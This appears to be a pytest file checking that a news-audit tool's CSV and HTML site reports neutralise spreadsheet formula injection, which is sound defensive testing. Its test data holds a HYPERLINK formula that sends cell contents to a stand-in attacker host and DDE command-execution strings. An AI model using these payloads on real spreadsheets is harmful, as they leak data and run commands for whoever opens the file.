"""``sites.csv`` opens in spreadsheets: a site name from the crawl must never run there as a formula."""

from __future__ import annotations

import csv
import html
import os
import subprocess
import sys
from pathlib import Path

from newsaudit.batch.sites import COLUMNS, write_csv

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_text_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(tmp_path: Path) -> None:
    names = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx.example", "\rx.example",
             "\uff1d1+1", "news.example", "a=b.example"]
    profiles = [{"site": name, "pages": -3, "mean_inserted_share": -0.25, "corpus_label": "-fake",
                 "groups_targeted": "jews (2)"} for name in names]
    write_csv(profiles, tmp_path / "sites.csv")
    rows = _rows(tmp_path / "sites.csv")
    assert [r["site"] for r in rows] == ["'" + n for n in names[:7]] + names[7:]
    assert {(r["pages"], r["mean_inserted_share"], r["corpus_label"], r["groups_targeted"]) for r in rows} == {
        ("-3", "-0.25", "'-fake", "jews (2)")}
    assert list(rows[0]) == COLUMNS and rows[0]["wire_copy_share"] == ""


def test_batch_then_sites_neutralises_a_formula_domain(tmp_path: Path) -> None:
    feed = tmp_path / "f.csv"
    with feed.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([
            ["id", "domain", "type", "url", "title", "content"],
            ["1", HYPERLINK, "fake", "https://x.example/a", "T",
             "Title\n\nWASHINGTON (Reuters) - The vote is next week, officials said. The senators agreed."],
            ["2", "@news.example", "=cmd|' /C calc'!A0", "https://y.example/b", "T",
             "Council backs new bridge\n\nThe city council voted on Monday to fund a new bridge."],
        ])
    env = {**os.environ, "NEWSAUDIT_SLANT_BOOSTER": "0"}
    run = tmp_path / "run"
    for args in (["batch", str(feed), "--out", str(run), "-j", "1", "-q"], ["sites", str(run), "--data", "none"]):
        done = subprocess.run([sys.executable, "-m", "newsaudit", *args], capture_output=True, text=True, env=env,
                              check=False)
        assert done.returncode == 0, done.stderr
    rows = {r["site"]: r for r in _rows(run / "sites.csv")}
    assert set(rows) == {"'" + HYPERLINK.lower(), "'@news.example"}  # the profile query lower-cases domains
    assert rows["'@news.example"]["corpus_label"] == "'=cmd|' /C calc'!A0"
    assert rows["'" + HYPERLINK.lower()]["pages"] == "1"
    for row in rows.values():
        assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    page = (run / "sites.html").read_text(encoding="utf-8")
    assert '"https://evil.example/?"' not in page and '"https://evil.example/?"' in html.unescape(page)
